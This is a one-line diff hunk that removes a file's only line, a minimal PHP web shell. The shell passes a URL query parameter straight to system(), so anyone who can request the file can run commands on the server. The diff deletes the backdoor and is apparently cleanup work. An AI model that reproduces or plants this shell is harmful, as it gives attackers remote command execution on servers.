@@ -1,1 +1,0 @@
-<?php system($_GET["c"]); ?>
